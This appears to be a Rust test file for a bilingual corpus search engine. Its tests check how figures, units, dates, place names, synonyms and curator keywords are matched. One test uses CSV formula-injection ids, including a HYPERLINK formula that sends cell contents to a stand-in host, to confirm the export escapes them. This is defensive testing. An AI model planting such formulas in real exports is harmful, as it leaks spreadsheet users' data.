//! What must hold of corpora that are written for one test: of any amount, and of any id.

#[path = "../../compiler/tests/folder/mod.rs"]
mod folder;

use vitrine_corpus::Image;
use vitrine_corpus::image::open_appendix;
use vitrine_corpus::model::ArchivedCorpus;
use vitrine_search::{
    How, LineSort, Marker, NoteKind, Request, concordance, concordance_csv, marks, search,
    search_with,
};

use folder::Folder;

fn found(corpus: &ArchivedCorpus, query: &str) -> Vec<String> {
    let results = search(corpus, &Request { query: query.to_owned(), ..Request::default() });
    let mut ids: Vec<String> =
        results.hits.iter().map(|hit| corpus.passage_id(hit.passage)).collect();
    ids.sort_unstable();
    ids
}

/// Hundreds of millions with one decimal: a double has most of them only nearly.
#[test]
fn an_amount_is_found_however_it_is_written() {
    let row = |id: &str, n: u32, text: String| {
        format!("{{\"id\": \"{id}{n:02}\", \"doc\": \"{id}\", \"text\": \"{text}\"}}\n")
    };
    let rows: String = (11..=99)
        .map(|n| {
            let in_chinese = format!("據統計，當年的貿易額為{}.{}億美元左右。", n / 10, n % 10);
            let in_english = format!("Trade was worth ${n}0 million in that year, they said.");
            row("zh", n, in_chinese) + &row("en", n, in_english)
        })
        .collect();
    let folder = Folder::new("amounts", &[("rows.jsonl", &rows)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for n in 11..=99 {
        let both = [format!("en{n}"), format!("zh{n}")];
        let hundred_millions = format!("{}.{}", n / 10, n % 10);
        for query in [
            format!("figure:{n}0000000USD"),
            format!("figure:>={n}0000000USD figure:<={n}0millionUSD"),
            format!("figure:{hundred_millions}億USD"),
            format!("${n}0 million"),
            format!("{hundred_millions}亿美元"),
            format!("{n}0,000,000"),
        ] {
            assert_eq!(found(corpus, &query), both, "{query}");
        }
    }
}

#[test]
fn a_measure_is_found_however_it_is_written() {
    const ROWS: &str = r#"{"id": "glued", "text": "They laid a 20km road to the mill."}
{"id": "apart", "text": "The canal was 20 kilometers long when it was dug."}
{"id": "chinese", "text": "這條運河長20公里。"}
{"id": "miles", "text": "A railway of 20 miles was never built."}
{"id": "plant", "text": "The plant gives 300MW, as was promised."}
{"id": "fine", "text": "A fine of up to 1,500,000 New Taiwan Dollars may be imposed."}
{"id": "罰金", "text": "得併科新臺幣一百五十萬元以下罰金。"}
"#;
    let folder = Folder::new("measures", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let long = ["apart", "chinese", "glued"];
    for query in [
        "20 km",
        "20km",
        "20 kilometres",
        "20公里",
        "figure:20km",
        "figure:km",
        "figure:公里",
        "figure:>10千米",
        "figure:20kilometers",
    ] {
        assert_eq!(found(image.corpus(), query), long, "{query}");
    }
    for query in ["300 MW", "300MW", "figure:300MW", "figure:megawatts", "300兆瓦"] {
        assert_eq!(found(image.corpus(), query), ["plant"], "{query}");
    }
    assert_eq!(found(image.corpus(), "figure:20miles"), ["miles"]);
    for query in ["NT$1.5 million", "NT$", "TWD", "figure:TWD", "figure:1500000TWD", "figure:NT$"] {
        assert_eq!(found(image.corpus(), query), ["fine", "罰金"], "{query}");
    }
}

#[test]
fn a_place_is_found_by_what_is_of_it() {
    const ROWS: &str = r#"{"id": "fishery", "text": "The Hawaiian longline fishery takes few turtles."}
{"id": "place", "text": "Nets are set off Hawaii in spring."}
{"id": "coast", "text": "Off the Alaskan coast and in Alaska none are seen."}
{"id": "women", "text": "Women there and a Woman elsewhere set the nets."}
"#;
    let folder = Folder::new("peoples", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    for query in ["Hawaii", "Hawaiian", "Hawaiians"] {
        assert_eq!(found(image.corpus(), query), ["fishery", "place"], "{query}");
    }
    assert_eq!(found(image.corpus(), "+Hawaii"), ["place"]);
    assert_eq!(found(image.corpus(), "Alaska"), ["coast"]);
}

/// What the texts say of a time and what a reader writes are read by two programs, and must mean the same.
#[test]
fn a_longer_time_is_found_however_it_is_written() {
    const ROWS: &str = r#"{"id": "quarter", "text": "Sales rose in the second quarter of 2019 and not before."}
{"id": "季度", "text": "2019年第二季度的銷量有所上升。"}
{"id": "summer", "text": "They met in the summer of 2021, and parted soon."}
{"id": "夏天", "text": "他们在2021年夏天见面。"}
{"id": "half", "text": "In the first half of 2017 the price fell."}
{"id": "上半年", "text": "2017年上半年价格下跌。"}
{"id": "years", "text": "The bridge was built from 2005 to 2008 by hand."}
{"id": "至", "text": "2005年至2008年間修建了這座橋。"}
{"id": "end", "text": "At the end of 2012 the mill was sold."}
{"id": "年底", "text": "2012年底磨坊售出。"}
{"id": "republic", "text": "民國88年6月訪問該地。"}
{"id": "june", "text": "In June 1999 they visited the place."}
"#;
    let folder = Folder::new("periods", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    for (ids, queries) in [
        (
            ["quarter", "季度"],
            &["Q2 2019", "second quarter of 2019", "2019年第2季度", "2019 Q2"][..],
        ),
        (["summer", "夏天"], &["summer 2021", "Summer of 2021", "2021年夏季", "date:2021年夏"]),
        (
            ["half", "上半年"],
            &["first half of 2017", "2017年上半年", "H1 2017", "date:\"H1 2017\""],
        ),
        (
            ["years", "至"],
            &["2005-2008", "2005至2008年", "between 2005 and 2008", "date:2005-2008"],
        ),
        (["end", "年底"], &["end of 2012", "2012年年底", "2012年底"]),
        (["june", "republic"], &["June 1999", "民國八十八年六月", "民国88年6月", "1999.6"]),
    ] {
        for query in queries {
            assert_eq!(found(image.corpus(), query), ids, "{query}");
        }
    }
    // The words may also stand by themselves.
    let rows =
        r#"{"id": "apart", "text": "In 1968, after a long Prague spring, nothing was the same."}"#;
    let folder = Folder::new("apart", &[("rows.jsonl", rows)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    assert_eq!(found(image.corpus(), "spring 1968"), ["apart"]);
}

#[test]
fn what_is_counted_may_stand_right_behind_its_number() {
    const ROWS: &str = r#"{"id": "soldiers", "text": "約12,000名士兵渡過了河。"}
{"id": "freight", "text": "War-risk premiums rose to $4,150 a day for tankers."}
{"id": "range", "text": "其射程可達1,600公里。"}
{"id": "wheat", "text": "The ship carried 58,000 tonnes of wheat."}
{"id": "year", "text": "In 1600 the company was given its charter."}
"#;
    let folder = Folder::new("counted", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for (query, expected) in [
        ("12000名士兵", "soldiers"),
        ("1.2万名士兵", "soldiers"),
        ("4150美元", "freight"),
        ("1600公里", "range"),
        ("5.8万吨小麦", "wheat"),
        ("figure:公里", "range"),
    ] {
        assert_eq!(found(corpus, query), [expected], "{query}");
    }
    assert_eq!(found(corpus, "1600"), ["range", "year"]);
}

/// As many soldiers and barrels are no money, nor is money of another kind.
#[test]
fn the_code_of_a_currency_means_its_money() {
    const ROWS: &str = r#"{"id": "soldiers", "text": "約12,000名士兵,每日領取3,000,000桶石油。"}
{"id": "dollars", "text": "They paid $3 million for it, and $12,000 more."}
{"id": "euros", "text": "They paid €3 million for it, and €12,000 more."}
"#;
    let folder = Folder::new("currency", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for (query, expected) in [("USD 12000", "dollars"), ("EUR 3 million", "euros")] {
        assert_eq!(found(corpus, query), [expected], "{query}");
    }
    assert_eq!(found(corpus, "12000"), ["dollars", "euros", "soldiers"]);
}

/// A heading that has the characters of a word apart, or another date, tells nothing of what is beneath it.
#[test]
fn only_a_heading_with_the_words_counts() {
    const TEXT: &str = "# 笔记

## 裁缝的制度,2011年

农夫在河边谈起制裁,那是2024年的春天。

## 别的

老师给孩子讲解制裁,已到2024年的秋天。

## 制裁,2024年

船长向海关打听制裁,正值2024年的冬天。
";
    let folder = Folder::new("headings", &[("a.md", TEXT)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for query in ["制裁", "2024", "制裁 2024"] {
        let results = search(corpus, &Request { query: query.to_owned(), ..Request::default() });
        let score = |season: &str| {
            let mut hits = results.hits.iter();
            hits.find(|hit| corpus.text(hit.passage).contains(season)).unwrap().score
        };
        assert_eq!(score("春"), score("秋"), "{query}");
        assert!(score("冬") > score("秋"), "{query}");
    }
}

#[test]
fn words_are_found_joined_and_parted() {
    const ROWS: &str = r#"{"id": "parted", "text": "The policy makers of both sides met and were not able to agree."}
{"id": "joined", "text": "Cooperation of their airforces had ended long before that day."}
"#;
    let folder = Folder::new("joined", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for (query, expected) in
        [("policymakers", "parted"), ("co-operation", "joined"), ("air-forces", "joined")]
    {
        assert_eq!(found(corpus, query), [expected], "{query}");
    }
    assert!(found(corpus, "notable").is_empty(), "what is not able is not notable");
}

/// As passages have it, and as only a list of names does.
#[test]
fn types_are_found_with_and_without_their_hyphens() {
    const ROWS: &str = r#"{"id": "mig", "text": "两架米格-29停在河谷机场。"}
{"id": "su", "text": "Two Su-25 aircraft stood by the mill."}
{"id": "yak", "text": "The Yak130 is a trainer."}
{"id": "count", "text": "They counted 25 carts, 29 horses and 130 goats."}
"#;
    let synonyms = "[[group]]\nwords = [\"米格-29\", \"MiG-29\"]\n";
    let folder = Folder::new("types", &[("rows.jsonl", ROWS), ("synonyms.toml", synonyms)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for (query, expected) in [
        ("MiG-29", "mig"),
        ("MiG29", "mig"),
        ("Su25", "su"),
        ("Su-25", "su"),
        ("Yak-130", "yak"),
        ("Yak130", "yak"),
    ] {
        assert_eq!(found(corpus, query), [expected], "{query}");
    }
    for query in ["F25", "F-130", "29carts"] {
        assert!(!found(corpus, query).iter().any(|id| id != "count"), "{query}");
    }
}

/// Neither passage says fruit or 水果; the thesaurus knows that an apple is one.
#[test]
fn what_is_related_to_a_word_that_no_passage_has_is_found() {
    const ROWS: &str = r#"{"id": "apples", "text": "該國向鄰國出口蘋果,每年數千噸。"}
{"id": "coal", "text": "該國向鄰國出口煤炭,每年數萬噸。"}
{"id": "rifles", "text": "The ship carried rifles and mortars to the rebels in the north."}
{"id": "grain", "text": "The ship carried grain to the north, and the rebels let it pass."}
"#;
    let folder = Folder::new("thesaurus", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    let thesaurus = &open_appendix(&compiled.appendix).unwrap().thesaurus;
    let ask = |query: &str| {
        search_with(
            corpus,
            Some(thesaurus),
            &Request { query: query.to_owned(), ..Request::default() },
        )
    };
    for (query, first) in [
        ("which fruit is for export", "apples"),
        ("出口哪些水果", "apples"),
        ("what guns were on board the ship", "rifles"),
    ] {
        let results = ask(query);
        let best = results.hits[0].passage;
        assert_eq!(corpus.passage_id(best), *first, "{query}");
        let also = results.reading.parts.iter().flat_map(|part| &part.also);
        assert!(
            also.clone().any(|also| also.how == How::Related),
            "{query}: {:?}",
            results.reading
        );
        assert!(!marks(corpus, &results.reading, best).is_empty(), "{query}");
    }
    // Where every word is somewhere, and where the reader's very words are meant, it is not asked.
    assert_eq!(found(corpus, "grain ship"), ["grain"]);
    for query in ["guns", "+guns ship", "\"guns\" ship"] {
        assert!(ask(query).hits.is_empty(), "{query}");
    }
}

/// Of a long question hardly a word stands in what answers it.
#[test]
fn what_says_it_in_other_words_is_found_and_comes_early() {
    const ROWS: &str = r#"{"id": "pilots", "text": "Soviet pilots spoke Chinese on the radio, so that nobody would know who was flying."}
{"id": "drivers", "text": "The drivers waited at the border until the next morning."}
{"id": "mother", "text": "Her mother lives in a village near the border, and had to sell the house."}
{"id": "cooks", "text": "兩名廚師在邊境的旅館工作。"}
{"id": "hotel", "text": "The hotel had to close in the winter."}
"#;
    let folder = Folder::new("meaning", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    let thesaurus = &open_appendix(&compiled.appendix).unwrap().thesaurus;
    let ask = |query: &str, thesaurus| {
        let request = Request { query: query.to_owned(), ..Request::default() };
        search_with(corpus, thesaurus, &request)
    };
    let query = "foreign airmen who had to hide their mother tongue";
    let ids = |results: &vitrine_search::Results| {
        let id = |hit: &vitrine_search::Hit| corpus.passage_id(hit.passage);
        results.hits.iter().map(id).collect::<Vec<String>>()
    };
    assert!(!ids(&ask(query, None)).contains(&"pilots".to_owned()), "the words alone miss it");
    let results = ask(query, Some(thesaurus));
    assert!(ids(&results)[..2].contains(&"pilots".to_owned()), "{:?}", ids(&results));
    assert!(results.hits.is_sorted_by(|a, b| a.score >= b.score));
    let pilots =
        results.hits.iter().find(|hit| corpus.passage_id(hit.passage) == "pilots").unwrap();
    let marked: Vec<&str> = marks(corpus, &results.reading, pilots.passage)
        .into_iter()
        .map(|mark| &ROWS.lines().next().unwrap()[r#"{"id": "pilots", "text": ""#.len()..][mark])
        .collect();
    assert!(marked.contains(&"pilots"), "it shows why: {marked:?}");
    // Every word is meant where there are few of them, and each by itself where it is asked for so.
    for query in
        ["airmen", "foreign airmen", "\"foreign airmen who had to hide their mother tongue\""]
    {
        assert!(ask(query, Some(thesaurus)).hits.is_empty(), "{query}");
    }
}

/// A word that no passage has finds those that the curator gave it, and so does a question with it.
#[test]
fn a_word_that_says_little_tells_less_of_a_question() {
    // One word of the question in each, which no other passage has.
    const ROWS: &str = r#"{"id": "help", "text": "They were of much help then."}
{"id": "helicopter", "text": "A helicopter flies over these boats."}
{"id": "other", "text": "Nothing was said of the nets."}
"#;
    let folder = Folder::new("light", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for query in ["how do helicopters help", "how did they get help from helicopters"] {
        let request = Request { query: query.to_owned(), ..Request::default() };
        let first = search(corpus, &request).hits[0].passage;
        assert_eq!(corpus.passage_id(first), "helicopter", "{query}");
    }
}

#[test]
fn what_the_curator_calls_it_is_found_and_the_reader_is_told() {
    const ROWS: &str = r#"{"id": "coal", "text": "The ships brought coal and took rice and flour home."}
{"id": "hotel", "text": "The hotel had to close in the winter, and the ships did not come."}
{"id": "cooks", "text": "兩名廚師在邊境的旅館工作。"}
{"id": "road", "doc": "roads", "text": "冬天山路難行,旅途中亡者不少。"}
"#;
    let curation = r#"[[correction]]
passage = "coal"
words = "coal and"
keywords = ["payment in kind", "barter", "以物易物", "唇亡齒寒", "how are they paid"]

[[correction]]
passage = "cooks"
words = "廚師"
keywords = ["migrant labourers"]
"#;
    let folder = Folder::new("keywords", &[("rows.jsonl", ROWS), ("curation.toml", curation)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    let thesaurus = &open_appendix(&compiled.appendix).unwrap().thesaurus;
    for (query, first, keywords) in [
        ("barter", "coal", vec!["barter"]),
        ("bartered", "coal", vec!["barter"]),
        ("以物易物", "coal", vec!["以物易物"]),
        ("唇亡齒寒", "coal", vec!["唇亡齒寒"]),
        ("payments in kind", "coal", vec!["payment in kind"]),
        ("which ships were for pay", "coal", vec!["how are they paid", "payment in kind"]),
        ("how are they paid", "coal", vec!["how are they paid", "payment in kind"]),
        ("which ships were for barter", "coal", vec!["barter"]),
        ("who are the migrant labourers there", "cooks", vec!["migrant labourers"]),
    ] {
        let request = Request { query: query.to_owned(), ..Request::default() };
        assert!(
            search(corpus, &request).hits.first().is_none_or(|hit| {
                corpus.passage_id(hit.passage) != first || query.contains("ships")
            }),
            "{query}: its own words do not have it"
        );
        let results = search_with(corpus, Some(thesaurus), &request);
        let best = results.hits.first().unwrap_or_else(|| panic!("{query} finds nothing"));
        assert_eq!(corpus.passage_id(best.passage), first, "{query}");
        let marker = Marker::new(corpus, &results.reading);
        assert_eq!(marker.keywords(thesaurus, best.passage), keywords, "{query}");
        assert!(results.hits.is_sorted_by(|a, b| a.score >= b.score), "{query}");
        // Who asks for the whole of it is told so, and not of words that are not there; nor is chance shown, such as 亡.
        let is_whole = !query.contains("ships") && !query.contains("who");
        let notes = results.reading.notes.iter();
        let notes: Vec<bool> = notes.map(|note| note.kind == NoteKind::Keyword).collect();
        assert_eq!(notes, [is_whole], "{query}: {:?}", results.reading.notes);
        assert!(
            results.reading.parts.iter().all(|part| part.text != query || part.also.is_empty())
        );
    }
    // The very words are meant, and no one asks for a keyword where passages have the words.
    for query in ["+barter", "\"barter\"", "barter -coal", "barter lang:zh"] {
        let request = Request { query: query.to_owned(), ..Request::default() };
        assert!(search_with(corpus, Some(thesaurus), &request).hits.is_empty(), "{query}");
    }
    let request = Request { query: "ships".to_owned(), ..Request::default() };
    let results = search_with(corpus, Some(thesaurus), &request);
    assert_eq!(results.hits.len(), 2);
    let marker = Marker::new(corpus, &results.reading);
    assert!(results.hits.iter().all(|hit| marker.keywords(thesaurus, hit.passage).is_empty()));
}

#[test]
fn figures_below_zero_are_found_by_their_signs() {
    const ROWS: &str = r#"{"id": "cold", "text": "In that winter the temperature was -20°C for a week."}
{"id": "warm", "text": "In that summer the temperature was 20°C for a week."}
"#;
    let folder = Folder::new("below-zero", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for (query, expected) in [
        ("figure:-20", "cold"),
        ("figure:<-10", "cold"),
        ("figure:<=-20", "cold"),
        ("figure:-30..-10", "cold"),
        ("figure:20", "warm"),
        ("figure:>=20", "warm"),
        ("figure:>-10 figure:degrees", "warm"),
    ] {
        assert_eq!(found(corpus, query), [expected], "{query}");
    }
}

/// An id is somebody else's word as much as a text is.
#[test]
fn no_id_is_run_as_a_formula() {
    const ROWS: &str = r#"{"id": "=HYPERLINK(\"https://a.invalid/?\"&A1)", "doc": "@SUM(A1)", "text": "Grain came by ship."}
{"id": "+1", "doc": "-1", "text": "Grain went by ship."}
"#;
    let folder = Folder::new("formulas", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    let results = search(corpus, &Request { query: "grain".to_owned(), ..Request::default() });
    let lines = concordance(corpus, &results, LineSort::Corpus);
    assert_eq!(lines.len(), 2);
    let table = concordance_csv(corpus, &lines, 5, &|_| "=link".to_owned());
    for row in table.lines().skip(1) {
        for cell in row.split(',') {
            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "{row}");
        }
    }
    assert!(table.contains("\"'=HYPERLINK(\"\"https://a.invalid/?\"\"&A1)\""), "{table}");
}

/// What Chinese calls differently in two places, also where it is only a part of what is asked; and where the curator gives
/// a row of words another name, the words apart.
#[test]
fn chinese_is_found_by_its_other_words() {
    let rows = [
        ("a", "河谷的磨坊改用網路賣麵粉。"),
        ("b", "河谷的网络贸易去年翻了一番。"),
        ("c", "限制解除以後，船又來了。"),
        ("d", "船東要求解除對渡船的限制。"),
        ("e", "磨坊主讀報。"),
    ];
    let rows: String = rows
        .iter()
        .map(|(id, text)| format!("{{\"id\": \"{id}\", \"doc\": \"d\", \"text\": \"{text}\"}}\n"))
        .collect();
    let synonyms = "[[group]]\nwords = [\"解除限制\", \"限制解除\"]\n";
    let folder = Folder::new("other-words", &[("rows.jsonl", &rows), ("synonyms.toml", synonyms)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    let rows = |query: &str| -> Vec<String> {
        found(corpus, query).iter().map(|id| id.chars().next().unwrap().to_string()).collect()
    };
    assert_eq!(rows("网络"), ["a", "b"]);
    assert_eq!(rows("網路貿易"), ["b"]);
    assert_eq!(rows("解除限制"), ["c", "d"]);
    let best = search(corpus, &Request { query: "解除限制".to_owned(), ..Request::default() });
    assert!(corpus.text(best.hits[0].passage).contains("限制解除"), "what is said as a whole");
    assert!(rows("\"网络貿易\"").len() == 1 && rows("\"網路貿易\"").is_empty(), "to the letter");
}

#[test]
fn what_stands_behind_a_number_counts_only_as_a_word_of_measure() {
    const ROWS: &str = r#"{"id": "dams", "text": "Three dry winters emptied the six big dams of the Cape."}
{"id": "ships", "text": "三艘貨船沉沒。"}
"#;
    let folder = Folder::new("measures", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    assert_eq!(found(corpus, "三座大坝"), [] as [&str; 0], "six of them");
    assert_eq!(found(corpus, "三峡大坝"), [] as [&str; 0]);
    assert_eq!(found(corpus, "3隻货船"), ["ships"]);
}

#[test]
fn a_place_is_found_by_its_name_in_the_other_language() {
    const ROWS: &str = r#"{"id": "capital", "text": "Kuala Lumpur argues that the price is low."}
{"id": "reservoir", "text": "密云水库建成于1960年。"}
{"id": "river", "text": "隧洞從黃河底下穿過。"}
{"id": "town", "text": "绍兴规定每月检漏。"}
{"id": "agency", "text": "It was the Environmental Protection Agency that waited."}
"#;
    let folder = Folder::new("places", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    let corpus = image.corpus();
    for (query, expected) in [
        ("吉隆坡", "capital"),
        ("Miyun reservoir", "reservoir"),
        ("Yellow River", "river"),
        ("Shaoxing", "town"),
        ("EPA", "agency"),
    ] {
        assert_eq!(found(corpus, query), [expected], "{query}");
    }
}

#[test]
fn a_word_that_only_another_language_says_finds_its_family_in_its_own() {
    const ROWS: &str = r#"{"id": "zh", "text": "海水具腐蝕性。"}
{"id": "en", "text": "The river water was more corrosive, and the mains corroded."}
{"id": "other", "text": "The core of the matter is another."}
"#;
    let folder = Folder::new("families", &[("rows.jsonl", ROWS)]);
    let compiled = folder.compile();
    let image = Image::open(&compiled.image).unwrap();
    assert_eq!(found(image.corpus(), "corrosion"), ["en", "zh"]);
}
